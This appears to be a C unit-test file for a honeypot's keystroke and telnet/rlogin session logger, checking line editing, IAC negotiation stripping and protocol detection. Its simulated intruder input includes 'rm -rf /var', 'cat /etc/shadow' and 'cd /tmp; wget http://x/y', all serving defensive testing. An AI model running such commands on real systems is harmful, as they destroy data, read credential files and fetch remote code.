/*
 * Unit tests of keys and telnet: exact keystrokes.jsonl lines from the line
 * editor (backspace, DEL, ^U, ^W, CR/LF/CRLF/CR NUL, escape sequences,
 * ^C, long lines, Sebek and syslog origins), and telnet, rlogin and raw
 * shell sessions driven through session_*: IAC negotiation stripped from
 * the transcript, keys from the client only, protocol guesses.
 */
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "testutil.h"
#include "config.h"
#include "event.h"
#include "layers.h"
#include "keys.h"
#include "session.h"
#include "sha256.h"
#include "stream.h"

#define DAY_S		86400LL
#define D26		(1795651200LL * FB_NS_PER_SEC)	/* 2026-11-26T00:00:00Z */
#define T(sec, us)	(D26 + (fb_ns)(sec) * FB_NS_PER_SEC + (fb_ns)(us) * 1000)
#define T0		73163	/* 20:19:23 */

static char tmpdir[256];
static struct fb_config cfg;
static struct event_log *el;
static struct layers *ly;

static int
rm_cb(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st; (void)flag; (void)ftw;
	return remove(path);
}

static int
setup(void **state)
{
	(void)state;
	log_init("test_keys", 0);
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/fbkeyXXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	memset(&cfg, 0, sizeof(cfg));
	cfg.layers = true;
	cfg.layers_memory_bytes = 1 << 20;
	cfg.transcript_max_bytes = 1 << 20;
	cfg.layers_disk_bytes = 1 << 24;
	el = event_log_open(tmpdir, NULL);
	assert_non_null(el);
	ly = layers_new(&cfg, tmpdir, el, NULL);
	assert_non_null(ly);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	layers_free(ly);
	event_log_close(el);
	nftw(tmpdir, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
	return 0;
}

static void
v4(struct fb_addr *a, uint8_t x, uint8_t y, uint8_t z, uint8_t w)
{
	memset(a, 0, sizeof(*a));
	a->b[10] = a->b[11] = 0xff;
	a->b[12] = x;
	a->b[13] = y;
	a->b[14] = z;
	a->b[15] = w;
}

/* 203.0.113.66:40000 -> honeypot 10.0.0.5:23, connection 17. */
static void
inbound(struct session_info *si)
{
	memset(si, 0, sizeof(*si));
	si->conn_id = 17;
	v4(&si->key.src, 203, 0, 113, 66);
	v4(&si->key.dst, 10, 0, 0, 5);
	si->key.sport = 40000;
	si->key.dport = 23;
	si->key.proto = 6;
	si->dir = DIR_INBOUND;
	si->honeypot = si->key.dst;
	si->start = T(T0, 0);
}

static char *
slurp(const char *rel)
{
	char path[512];
	struct stat st;
	char *b;
	int fd;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, rel);
	if ((fd = open(path, O_RDONLY)) == -1)
		return NULL;
	assert_int_equal(fstat(fd, &st), 0);
	b = calloc(1, (size_t)st.st_size + 1);
	assert_non_null(b);
	assert_int_equal(read(fd, b, (size_t)st.st_size), st.st_size);
	close(fd);
	return b;
}

static void
check_file(const char *rel, const char *want)
{
	char *got = slurp(rel);

	assert_non_null(got);
	if (strcmp(got, want) != 0)
		fprintf(stderr, "GOT<<%s>>\n", got);
	assert_string_equal(got, want);
	free(got);
}

#define KL	"\"honeypot\":\"10.0.0.5\",\"source\":\"telnet\",\"conn_id\":17," \
		"\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":23,"

static struct key_origin
telnet_origin(void)
{
	struct session_info si;
	struct key_origin o;

	inbound(&si);
	memset(&o, 0, sizeof(o));
	o.source = "telnet";
	o.honeypot = si.honeypot;
	o.has_conn = true;
	o.conn_id = 17;
	o.src = si.key.src;
	o.dst = si.key.dst;
	o.sport = 40000;
	o.dport = 23;
	return o;
}

static void
typed(struct keyline *k, fb_ns ts, const char *s, size_t n)
{
	keyline_feed(k, ts, (const uint8_t *)s, n);
}

static void
test_editor(void **state)
{
	struct key_origin o = telnet_origin();
	struct keyline *k = keyline_new(ly, &o);

	(void)state;
	typed(k, T(T0, 0), "ls -lx\b\x7f" "a\r\n", 11);		/* BS, DEL, CR LF */
	typed(k, T(T0, 1), "rm -rf /tmp\x17/var\r\0", 18);	/* ^W, CR NUL */
	typed(k, T(T0, 2), "secret\x15" "id\n", 10);		/* ^U */
	typed(k, T(T0, 3), "\r", 1);				/* empty: no line */
	typed(k, T(T0, 4), "ab\x1b[Acd\x1bOB\x1b" "x" "e\x7f\x7f\x7f\x7f\x7f\x7f\r", 20);
	typed(k, T(T0, 5), "ping x\x03", 7);			/* ^C */
	typed(k, T(T0, 6), "caf\xc3\xa9\x7f" "e\x1a\tz", 10);	/* UTF-8 erase, ^Z, tab */
	typed(k, T(T0, 7), "\n", 1);
	typed(k, T(T0, 8), "half", 4);
	keyline_free(k, T(T0, 9));
	check_file("2026-11-26/keystrokes.jsonl",
	    "{\"ts\":\"2026-11-26T20:19:23.000000Z\",\"start\":\"2026-11-26T20:19:23.000000Z\","
	    KL "\"line\":\"ls -a\",\"raw\":\"ls -lx\\u0008\\u007fa\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000001Z\",\"start\":\"2026-11-26T20:19:23.000001Z\","
	    KL "\"line\":\"rm -rf /var\",\"raw\":\"rm -rf /tmp\\u0017/var\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000002Z\",\"start\":\"2026-11-26T20:19:23.000002Z\","
	    KL "\"line\":\"id\",\"raw\":\"secret\\u0015id\\n\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000004Z\",\"start\":\"2026-11-26T20:19:23.000004Z\","
	    KL "\"line\":\"\",\"raw\":\"ab\\u001b[Acd\\u001bOB\\u001bxe\\u007f\\u007f\\u007f"
	    "\\u007f\\u007f\\u007f\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000005Z\",\"start\":\"2026-11-26T20:19:23.000005Z\","
	    KL "\"line\":\"ping x^C\",\"raw\":\"ping x\\u0003\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000007Z\",\"start\":\"2026-11-26T20:19:23.000006Z\","
	    KL "\"line\":\"cafe^Z\\tz\",\"raw\":\"caf\xc3\xa9\\u007fe\\u001a\\tz\\n\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000009Z\",\"start\":\"2026-11-26T20:19:23.000008Z\","
	    KL "\"line\":\"half\",\"raw\":\"half\"}\n");
}

static void
test_long_line_and_origins(void **state)
{
	struct key_origin o = telnet_origin();
	struct keyline *k = keyline_new(ly, &o);
	char *big = malloc(KEYS_LINE_MAX + 10), *got, *nl;
	size_t len0;

	(void)state;
	memset(big, 'a', KEYS_LINE_MAX + 9);
	big[KEYS_LINE_MAX + 9] = '\n';
	typed(k, T(T0, 0), big, KEYS_LINE_MAX + 10);
	keyline_free(k, T(T0, 1));
	free(big);
	got = slurp("2026-11-26/keystrokes.jsonl");
	assert_non_null(got);
	nl = strchr(got, '\n');
	assert_non_null(nl);
	assert_non_null(strstr(nl + 1, "\"line\":\"aaaaaaaaa\",\"raw\":\""));
	len0 = strlen(got);
	free(got);

	memset(&o, 0, sizeof(o));
	o.source = "sebek";
	v4(&o.honeypot, 10, 0, 0, 7);
	o.has_proc = true;
	o.pid = 4242;
	o.uid = 0;
	o.fd = 0;
	o.inode = 123456;
	o.command = "bash\"\n";
	k = keyline_new(ly, &o);
	typed(k, T(T0, 2), "w\r", 2);
	keyline_free(k, T(T0, 3));
	o.source = "syslog";
	o.has_proc = false;
	keys_line(ly, T(T0, 4), &o, "cat /etc/shadow", 15, NULL, 0);
	got = slurp("2026-11-26/keystrokes.jsonl");
	assert_string_equal(got + len0,
	    "{\"ts\":\"2026-11-26T20:19:23.000002Z\",\"start\":\"2026-11-26T20:19:23.000002Z\","
	    "\"honeypot\":\"10.0.0.7\",\"source\":\"sebek\",\"pid\":4242,\"uid\":0,\"fd\":0,"
	    "\"inode\":123456,\"command\":\"bash\\\"\\n\",\"line\":\"w\",\"raw\":\"w\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000004Z\",\"start\":\"2026-11-26T20:19:23.000004Z\","
	    "\"honeypot\":\"10.0.0.7\",\"source\":\"syslog\",\"line\":\"cat /etc/shadow\"}\n");
	free(got);
}

#define TR	"2026-11-26/sessions/17-10.0.0.5-23.txt"
#define CL	" >> client 203.0.113.66:40000\n"
#define SV	" << server 10.0.0.5:23\n"

static void
raw(struct session *s, int dir, fb_ns ts, const char *p, size_t n)
{
	session_data(s, dir, ts, (const uint8_t *)p, n);
}

/* A telnet login: negotiation both ways (split IAC, SB..SE, IAC IAC),
 * echo from the server, keys from the client with a backspace and EC. */
static void
test_telnet_session(void **state)
{
	struct session_info si;
	struct session *s;
	char *got;

	(void)state;
	inbound(&si);
	s = session_open(ly, &si);
	raw(s, 1, T(T0, 0), "\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01\xff", 10);
	raw(s, 1, T(T0, 1), "\xfb\x03login: ", 9);
	raw(s, 0, T(T0, 2), "\xff\xfc\x01\xff\xfa\x18\x00xterm\xff\xf0r", 15);
	raw(s, 1, T(T0, 3), "r", 1);
	raw(s, 0, T(T0, 4), "oo", 2);
	raw(s, 1, T(T0, 5), "oo", 2);
	raw(s, 0, T(T0, 6), "tt\x7f\r\0", 5);
	raw(s, 1, T(T0, 7), "t\b \b\r\nPassword: ", 16);
	raw(s, 0, T(T0, 8), "s3cr\xff\xffx\xff\xf7t\r\n", 12);
	raw(s, 1, T(T0, 9), "\r\n# ", 4);
	session_close(s, T(T0, 10));
	check_file(TR,
	    "[2026-11-26T20:19:23.000001Z]" SV	/* the first chunk was all negotiation */
	    "login: \n"
	    "[2026-11-26T20:19:23.000002Z]" CL
	    "r\n"
	    "[2026-11-26T20:19:23.000003Z]" SV
	    "r\n"
	    "[2026-11-26T20:19:23.000004Z]" CL
	    "oo\n"
	    "[2026-11-26T20:19:23.000005Z]" SV
	    "oo\n"
	    "[2026-11-26T20:19:23.000006Z]" CL
	    "tt\\x7f\\r\n"
	    "[2026-11-26T20:19:23.000007Z]" SV
	    "t\\x08 \\x08\n"
	    "Password: \n"
	    "[2026-11-26T20:19:23.000008Z]" CL
	    "s3cr\\xffxt\n"
	    "[2026-11-26T20:19:23.000009Z]" SV
	    "\n"
	    "# \n");
	check_file("2026-11-26/keystrokes.jsonl",
	    "{\"ts\":\"2026-11-26T20:19:23.000006Z\",\"start\":\"2026-11-26T20:19:23.000002Z\","
	    KL "\"line\":\"root\",\"raw\":\"roott\\u007f\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000008Z\",\"start\":\"2026-11-26T20:19:23.000008Z\","
	    KL "\"line\":\"s3cr\\u00fft\",\"raw\":\"s3cr\\u00ffx\\u007ft\\r\"}\n");
	got = slurp("2026-11-26/sessions.jsonl");
	assert_non_null(strstr(got, "\"protocol\":\"telnet\",\"bytes_orig\":34,\"bytes_resp\":42,"));
	free(got);
	assert_int_equal(ly->st.keystroke_lines, 2);
	assert_int_equal(ly->st.sessions_logged, 1);
	assert_int_equal(ly->st.telnet_sb_overlong, 0);
}

static void
test_rlogin_and_shell(void **state)
{
	struct session_info si;
	struct session *s;
	char *got;

	(void)state;
	inbound(&si);
	si.key.dport = 513;
	s = session_open(ly, &si);
	raw(s, 0, T(T0, 0), "\0root\0root\0xterm/38400\0", 23);
	raw(s, 1, T(T0, 1), "\0", 1);
	raw(s, 0, T(T0, 2), "\xff\xffss\0\x18\0\x50\0\0\0\0", 12);
	raw(s, 0, T(T0, 3), "unamx\be -a\r", 11);
	session_close(s, T(T0, 4));
	inbound(&si);
	si.conn_id = 18;
	si.key.dport = 31337;
	s = session_open(ly, &si);
	raw(s, 1, T(T0, 5), "sh-4.2# ", 8);
	raw(s, 0, T(T0, 6), "cd /tmp; wget http://x/y\n", 25);
	session_close(s, T(T0, 7));
	got = slurp("2026-11-26/keystrokes.jsonl");
	assert_string_equal(got,
	    "{\"ts\":\"2026-11-26T20:19:23.000003Z\",\"start\":\"2026-11-26T20:19:23.000003Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"rlogin\",\"conn_id\":17,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":513,"
	    "\"line\":\"uname -a\",\"raw\":\"unamx\\u0008e -a\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000006Z\",\"start\":\"2026-11-26T20:19:23.000006Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"shell\",\"conn_id\":18,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":31337,"
	    "\"line\":\"cd /tmp; wget http://x/y\",\"raw\":\"cd /tmp; wget http://x/y\\n\"}\n");
	free(got);
	got = slurp("2026-11-26/sessions.jsonl");
	assert_non_null(strstr(got, "\"dport\":513,\"protocol\":\"rlogin\","));
	assert_non_null(strstr(got, "\"dport\":31337,\"protocol\":\"shell\","));
	free(got);
}

/* rlogin window-size messages (FF FF s s + 8 bytes) split anywhere
 * between chunks never leak into the keys; FF bytes that do not open one
 * are keys, in order. */
static void
test_rlogin_split(void **state)
{
	struct session_info si;
	struct session *s;
	char *got;

	(void)state;
	inbound(&si);
	si.key.dport = 513;
	s = session_open(ly, &si);
	raw(s, 0, T(T0, 0), "\0root\0root\0xterm/38400\0", 23);
	raw(s, 1, T(T0, 1), "\0", 1);
	raw(s, 0, T(T0, 2), "l\xff", 2);	/* split after the first FF */
	raw(s, 0, T(T0, 3), "\xffss\0\x18\0\x50\0\0\0\0s\r", 13);
	raw(s, 0, T(T0, 4), "id\xff\xff", 4);	/* split after FF FF */
	raw(s, 0, T(T0, 5), "s", 1);
	raw(s, 0, T(T0, 6), "s\0\x19\0\x50\0", 6);	/* and inside the size */
	raw(s, 0, T(T0, 7), "\0\0\0\r", 4);
	raw(s, 0, T(T0, 8), "a\xff", 2);	/* FF then not 's': keys */
	raw(s, 0, T(T0, 9), "\xff" "b\xff\xff\xffss\0\0\0\0\0\0\0\0c\r", 17);
	raw(s, 0, T(T0, 10), "z\xff", 2);	/* held at the end: a key */
	session_close(s, T(T0, 11));
	got = slurp("2026-11-26/keystrokes.jsonl");
	assert_string_equal(got,
	    "{\"ts\":\"2026-11-26T20:19:23.000003Z\",\"start\":\"2026-11-26T20:19:23.000002Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"rlogin\",\"conn_id\":17,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":513,"
	    "\"line\":\"ls\",\"raw\":\"ls\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000007Z\",\"start\":\"2026-11-26T20:19:23.000004Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"rlogin\",\"conn_id\":17,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":513,"
	    "\"line\":\"id\",\"raw\":\"id\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000009Z\",\"start\":\"2026-11-26T20:19:23.000008Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"rlogin\",\"conn_id\":17,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":513,"
	    "\"line\":\"a\\u00ff\\u00ffb\\u00ffc\",\"raw\":\"a\\u00ff\\u00ffb\\u00ffc\\r\"}\n"
	    "{\"ts\":\"2026-11-26T20:19:23.000011Z\",\"start\":\"2026-11-26T20:19:23.000010Z\","
	    "\"honeypot\":\"10.0.0.5\",\"source\":\"rlogin\",\"conn_id\":17,"
	    "\"src\":\"203.0.113.66\",\"sport\":40000,\"dst\":\"10.0.0.5\",\"dport\":513,"
	    "\"line\":\"z\\u00ff\",\"raw\":\"z\\u00ff\"}\n");
	free(got);
}

/* Not a shell, not telnet: an HTTP request on port 23 is HTTP (by content). */
static void
test_detection_by_content(void **state)
{
	struct session_info si;
	struct session *s;
	char *got;

	(void)state;
	inbound(&si);
	s = session_open(ly, &si);
	raw(s, 0, T(T0, 0), "GET / HTTP/1.0\r\n\r\n", 18);
	raw(s, 1, T(T0, 1), "HTTP/1.0 200 OK\r\n\r\n$ ", 21);
	session_close(s, T(T0, 2));
	got = slurp("2026-11-26/sessions.jsonl");
	assert_non_null(strstr(got, "\"protocol\":\"http\""));
	free(got);
	assert_null(slurp("2026-11-26/keystrokes.jsonl"));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_editor, setup, teardown),
		cmocka_unit_test_setup_teardown(test_long_line_and_origins, setup, teardown),
		cmocka_unit_test_setup_teardown(test_telnet_session, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rlogin_and_shell, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rlogin_split, setup, teardown),
		cmocka_unit_test_setup_teardown(test_detection_by_content, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
